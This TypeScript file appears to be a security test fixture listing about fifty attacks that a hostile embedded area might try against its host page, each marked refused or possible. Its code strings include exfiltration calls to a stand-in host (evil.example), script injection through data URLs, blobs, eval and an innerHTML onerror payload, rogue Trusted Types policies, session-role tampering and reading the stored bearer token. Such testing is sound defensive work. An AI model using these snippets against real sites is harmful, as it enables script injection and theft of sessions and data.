/**
 * What a hostile area can try against the page it runs in. `code` is the body of an async function of `shell` and the helpers below;
 * it gives true when the attack worked. `refused`: it throws, gives false, or the policy stops it. `possible`: a limit that is known,
 * because areas run in the shell's own realm (see shell/README.md); what it is worth is bounded elsewhere.
 */
export type Attack = {
  readonly name: string;
  readonly outcome: "refused" | "possible";
  readonly code: string;
};

const refused = (name: string, code: string): Attack => ({ name, outcome: "refused", code });
const possible = (name: string, code: string): Attack => ({ name, outcome: "possible", code });

/** Part of the hostile area's source. `runs` tells whether a script set `globalThis.taken`; `passes` whether no policy stopped an act. */
export const helpers = `
const foreign = "https://evil.example";
const soon = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
async function runs(act) {
  delete globalThis.taken;
  await act();
  await soon(150);
  return globalThis.taken === 1;
}
async function passes(act) {
  let stopped = false;
  const stop = () => { stopped = true; };
  document.addEventListener("securitypolicyviolation", stop);
  try {
    await act();
    for (let turn = 0; turn < 20 && !stopped; turn += 1) await soon(25);
    return !stopped;
  } finally {
    document.removeEventListener("securitypolicyviolation", stop);
  }
}
function made(tag, more) {
  const element = document.createElement(tag);
  Object.assign(element, more);
  document.body.append(element);
  return element;
}
const blobOf = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const take = "globalThis.taken = 1";
const session = () => JSON.parse(localStorage.getItem("roadworthy.session"));
const asked = async (path) =>
  (await fetch(path, { headers: { authorization: "Bearer " + session().access_token } })).ok;
`;

const scripts: Attack[] = [
  refused("a script of another origin", `return runs(() => made("script", { src: foreign + "/x.js" }));`),
  refused(
    "a script from a data address",
    `return runs(() => made("script", { src: "data:text/javascript," + take }));`,
  ),
  refused(
    "a script from a blob",
    `return runs(() => made("script", { src: blobOf(take, "text/javascript") }));`,
  ),
  refused("an inline script", `return runs(() => made("script", { textContent: take }));`),
  refused("an inline module", `return runs(() => made("script", { type: "module", textContent: take }));`),
  refused("an import map", `return passes(() => made("script", { type: "importmap", textContent: "{}" }));`),
  refused(
    "speculation rules",
    `return passes(() => made("script", { type: "speculationrules", textContent: "{}" }));`,
  ),
  refused(
    "a script inside an SVG",
    `return runs(() => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const script = document.createElementNS("http://www.w3.org/2000/svg", "script");
    script.setAttribute("href", foreign + "/x.js");
    svg.append(script);
    document.body.append(svg);
  });`,
  ),
  refused("eval", `return (0, eval)("1") === 1;`),
  refused("a function from text", `return new Function("return 1")() === 1;`),
  refused("a timer with text", `return runs(() => setTimeout(take, 0));`),
  refused("an interval with text", `return runs(() => setInterval(take, 10));`),
  refused("a javascript: link", `return runs(() => made("a", { href: "javascript:" + take }).click());`),
  refused("a javascript: frame", `return runs(() => made("iframe", { src: "javascript:parent." + take }));`),
  refused(
    "an event handler in an attribute",
    `return runs(() => {
    const button = made("button");
    button.setAttribute("onclick", take);
    button.click();
  });`,
  ),
  refused("a worker of another origin", `new Worker(foreign + "/x.js"); return true;`),
  refused("a worker from a data address", `new Worker("data:text/javascript,1"); return true;`),
  refused("a worker from a blob", `return passes(() => void new Worker(blobOf("1", "text/javascript")));`),
  refused("a shared worker from a data address", `new SharedWorker("data:text/javascript,1"); return true;`),
  refused(
    "a service worker over the whole site",
    `await navigator.serviceWorker.register(document.querySelector("script[src]").src, { scope: "/" }); return true;`,
  ),
  refused("eval of a fresh frame's realm", `return made("iframe").contentWindow.eval("1") === 1;`),
];

const markup: Attack[] = [
  refused("markup by innerHTML", `made("p").innerHTML = "<img src=x onerror=" + take + ">"; return true;`),
  refused("markup by outerHTML", `made("p").outerHTML = "<b>1</b>"; return true;`),
  refused(
    "markup by insertAdjacentHTML",
    `made("p").insertAdjacentHTML("beforeend", "<b>1</b>"); return true;`,
  ),
  refused("markup by setHTMLUnsafe", `made("p").setHTMLUnsafe("<b>1</b>"); return true;`),
  refused("markup by document.write", `document.write("<b>1</b>"); return true;`),
  refused("markup by a range", `document.createRange().createContextualFragment("<b>1</b>"); return true;`),
  refused("markup by a parser", `new DOMParser().parseFromString("<b>1</b>", "text/html"); return true;`),
  refused("markup by parseHTMLUnsafe", `Document.parseHTMLUnsafe("<b>1</b>"); return true;`),
  refused("a document in a frame", `made("iframe").srcdoc = "<b>1</b>"; return true;`),
];

const policies: Attack[] = [
  "mf_admin#webpack",
  "mf_client#webpack",
  "shell#webpack",
  "roadworthy#page",
  "default",
  "of-my-own",
].map((name) =>
  refused(
    `a Trusted Types policy called ${name}`,
    `trustedTypes.createPolicy(${JSON.stringify(name)}, { createHTML: (text) => text }); return true;`,
  ),
);

const elsewhere: Attack[] = [
  refused("a request to another origin", `await fetch(foreign, { mode: "no-cors" }); return true;`),
  refused(
    "a request to another origin from a fresh frame",
    `await made("iframe").contentWindow.fetch(foreign, { mode: "no-cors" }); return true;`,
  ),
  refused("a beacon to another origin", `return passes(() => void navigator.sendBeacon(foreign, "1"));`),
  refused("a socket to another origin", `return passes(() => void new WebSocket("wss://evil.example"));`),
  refused("a stream from another origin", `return passes(() => void new EventSource(foreign));`),
  refused("a picture of another origin", `return passes(() => void (new Image().src = foreign + "/x.png"));`),
  refused("a sound of another origin", `return passes(() => void new Audio(foreign + "/x.mp3").load());`),
  refused(
    "a style sheet of another origin",
    `return passes(() => made("link", { rel: "stylesheet", href: foreign + "/x.css" }));`,
  ),
  refused(
    "a style sheet without the page's nonce",
    `return passes(() => made("style", { textContent: "p{}" }));`,
  ),
  refused(
    "a font of another origin",
    `await new FontFace("x", "url(" + foreign + "/x.woff2)").load(); return true;`,
  ),
  refused("a frame of another origin", `return passes(() => made("iframe", { src: foreign }));`),
  refused("an embedded document", `return passes(() => made("object", { data: foreign + "/x.pdf" }));`),
  refused(
    "a form to another origin",
    `return passes(() => made("form", { action: foreign, method: "post" }).submit());`,
  ),
  refused("another base address", `return passes(() => made("base", { href: foreign }));`),
  refused(
    "an address of another origin in the history",
    `history.pushState(null, "", foreign); return true;`,
  ),
];

const account: Attack[] = [
  refused(
    "a write to the session",
    `shell.session.setState({ status: "signedIn", user: { role: "admin" } }); return true;`,
  ),
  refused(
    "another role in the session",
    `shell.session.getState().user.role = "admin"; return shell.session.getState().user.role === "admin";`,
  ),
  refused("another way to call the API", `shell.api = () => null; return true;`),
  refused("another place", `shell.basePath = "/admin"; return true;`),
  refused("the admin's people", `return asked("/api/v1/admin/users");`),
  refused("the partner's pulls", `return asked("/api/v1/credit-pulls");`),
  refused("the visitor's cookie", `return document.cookie.includes("rw_visitor");`),
  possible("the session that the browser keeps", `return typeof session().access_token === "string";`),
  possible("the page's own functions", `const { parse } = JSON; JSON.parse = parse; return true;`),
];

/** About fifty attacks, each with what becomes of it. */
export const attacks: readonly Attack[] = [...scripts, ...markup, ...policies, ...elsewhere, ...account];
